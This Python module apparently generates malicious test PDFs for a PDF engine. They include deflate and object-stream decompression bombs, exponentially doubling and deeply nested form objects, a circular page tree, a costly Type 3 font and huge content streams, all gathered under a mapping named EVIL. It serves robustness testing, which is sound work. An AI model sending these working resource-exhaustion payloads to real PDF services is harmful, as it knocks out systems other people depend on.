"""Write small PDFs that keep an engine busy, fill its memory or break it."""

from __future__ import annotations

import zlib
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Mapping

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
_FLATE = b"/Filter /FlateDecode"


def _file(objects: Mapping[int, bytes]) -> bytes:
    """Join numbered objects; 1 is the catalog."""
    parts = [b"%PDF-1.5\n"]
    parts += [b"%d 0 obj\n%b\nendobj\n" % (number, body) for number, body in objects.items()]
    parts.append(b"trailer << /Root 1 0 R /Size %d >>\n" % (max(objects) + 1))
    parts.append(b"startxref\n0\n%%EOF\n")
    return b"".join(parts)


def _stream(data: bytes, entries: bytes = b"", *, level: int = 9) -> bytes:
    packed = zlib.compress(data, level)
    return _raw(packed, _FLATE + b" " + entries)


def _raw(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(data), data)


def _page(contents: bytes, resources: bytes = b"", rest: Mapping[int, bytes] = {}) -> bytes:
    """Make a document of one page, with Helvetica as F and objects from 10 up as they are."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 4 0 R "
        b"/Resources << /Font << /F 5 0 R >> %b >> >>" % resources,
        4: contents,
        5: _FONT,
    }
    return _file({**objects, **rest})


def many_text_operators() -> bytes:
    """Show one word six million times."""
    return _page(_stream(b"BT /F 11 Tf " + b"(word) Tj " * 6_000_000 + b"ET"))


def a_deflate_bomb() -> bytes:
    """Unfold a content stream of 800 megabytes from 800 kilobytes."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 24)
    packed = b"".join(packer.compress(block) for _ in range(48)) + packer.flush()
    return _page(_raw(packed, _FLATE))


def a_bomb_in_a_bomb() -> bytes:
    """Unfold far more, through two filters, from a few kilobytes."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 24)
    inner = b"".join(packer.compress(block) for _ in range(64)) + packer.flush()
    return _page(_raw(zlib.compress(inner, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def forms_that_double() -> bytes:
    """Let thirty forms each draw the next one twice."""
    return _page(_stream(b"/X10 Do"), b"/XObject << /X10 10 0 R >>", _doubling(30, 2))


def empty_forms_that_double() -> bytes:
    """Do the same with nothing to draw in the end."""
    return _page(_stream(b"/X10 Do"), b"/XObject << /X10 10 0 R >>", _doubling(30, 2, b" "))


def forms_within_forms() -> bytes:
    """Nest five thousand forms, one in the other."""
    return _page(_stream(b"/X10 Do"), b"/XObject << /X10 10 0 R >>", _doubling(5_000, 1))


def _doubling(depth: int, times: int, drawn: bytes = b"BT /F 11 Tf (x) Tj ET") -> dict[int, bytes]:
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << "
    made = {}
    for number in range(10, 10 + depth):
        name = b"/X%d" % (number + 1)
        entries = form + b"/XObject << %b %d 0 R >> >>" % (name, number + 1)
        made[number] = _raw((name + b" Do ") * times, entries)
    last = 10 + depth
    made[last] = _raw(drawn, form + b"/Font << /F 5 0 R >> >>")
    return made


def one_form_drawn_often() -> bytes:
    """Draw a form of a thousand words twenty thousand times."""
    form = (
        b"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /Font << /F 5 0 R >> >>"
    )
    words = _stream(b"BT /F 11 Tf " + b"(word) Tj " * 1_000 + b"ET", form)
    return _page(_stream(b"/X Do " * 20_000), b"/XObject << /X 10 0 R >>", {10: words})


def a_type_3_font() -> bytes:
    """Draw each glyph with a hundred thousand strokes, in a long text."""
    font = (
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [.001 0 0 .001 0 0] "
        b"/CharProcs << /a 11 0 R >> /Encoding << /Differences [97 /a] >> "
        b"/FirstChar 97 /LastChar 97 /Widths [1000] /Resources << /Font << /T 10 0 R >> >> >>"
    )
    strokes = b"1000 0 0 0 1000 1000 d1 " + b"0 0 m 9 9 l S " * 1_000_000
    glyph = _stream(strokes + b"BT /T 9 Tf (aaaa) Tj ET")
    return _page(
        _stream(b"BT /T 11 Tf " + b"(aaaaaaaaaaaaaaaa) Tj " * 300_000 + b"ET"),
        b"/Font << /T 10 0 R >>",
        {10: font, 11: glyph},
    )


def many_paths() -> bytes:
    """Draw one path with eight million corners."""
    return _page(_stream(b"0 0 m " + b"1 1 l " * 8_000_000 + b"S"))


def many_saved_states() -> bytes:
    """Save the state of the page ten million times."""
    return _page(_stream(b"q 1 0 0 1 1 1 cm " * 4_000_000))


def deep_arrays() -> bytes:
    """Open a million arrays in one another."""
    return _page(_stream(b"[" * 4_000_000 + b" TJ"))


def deep_dictionaries() -> bytes:
    """Nest dictionaries in an object, a hundred thousand deep."""
    depth = 100_000
    nested = b"<< /A " * depth + b"1" + b" >>" * depth
    return _page(_stream(b"BT ET"), b"/ColorSpace << /C 10 0 R >>", {10: nested})


def many_streams_on_a_page() -> bytes:
    """Make one page of the same large stream, a thousand times."""
    contents = b"[" + b"10 0 R " * 1_000 + b"]"
    words = _stream(b"BT /F 11 Tf " + b"(word) Tj " * 100_000 + b"ET ")
    return _page(contents, rest={10: words})


def a_page_tree_in_a_circle() -> bytes:
    """Let the page tree be its own child, and say that it holds four hundred pages."""
    return _file(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [2 0 R 2 0 R 2 0 R] /Count 400 >>",
        }
    )


def a_large_inline_image() -> bytes:
    """Draw inline images in the content, one after the other."""
    image = b"q BI /W 1 /H 1 /BPC 8 /CS /G ID x EI Q "
    return _page(_stream(image * 1_500_000))


def a_character_map_bomb() -> bytes:
    """Map characters with a table of a million and a half lines."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 11 0 R >>"
    lines = b"1 beginbfrange <00> <ff> <0041> endbfrange\n" * 1_500_000
    return _page(
        _stream(b"BT /T 11 Tf (word) Tj ET"),
        b"/Font << /T 10 0 R >>",
        {10: font, 11: _stream(b"1 begincodespacerange <00> <ff> endcodespacerange\n" + lines)},
    )


def an_object_stream_bomb() -> bytes:
    """Hide the catalog behind an object stream of 800 megabytes."""
    packer = zlib.compressobj(9)
    block = b" " * (1 << 24)
    packed = packer.compress(b"1 0 << /Type /Catalog /Pages 2 0 R >> ")
    packed += b"".join(packer.compress(block) for _ in range(48)) + packer.flush()
    head = b"%PDF-1.5\n10 0 obj\n"
    held = head + _raw(packed, b"/Type /ObjStm /N 1 /First 4 " + _FLATE) + b"\nendobj\n"
    rows = b"".join(
        kind.to_bytes(1) + place.to_bytes(4) + index.to_bytes(1)
        for kind, place, index in [(0, 0, 0), (2, 10, 0), (1, 9, 0)]
    )
    entries = b"/Type /XRef /Root 1 0 R /Size 12 /W [1 4 1] /Index [0 2 10 1] "
    place = len(held)
    held += b"11 0 obj\n" + _raw(rows, entries) + b"\nendobj\n"
    return held + b"startxref\n%d\n%%%%EOF\n" % place


EVIL: Mapping[str, Callable[[], bytes]] = {
    made.__name__: made
    for made in (
        many_text_operators,
        a_deflate_bomb,
        a_bomb_in_a_bomb,
        forms_that_double,
        empty_forms_that_double,
        forms_within_forms,
        one_form_drawn_often,
        a_type_3_font,
        many_paths,
        many_saved_states,
        deep_arrays,
        deep_dictionaries,
        many_streams_on_a_page,
        a_page_tree_in_a_circle,
        a_large_inline_image,
        a_character_map_bomb,
        an_object_stream_bomb,
    )
}
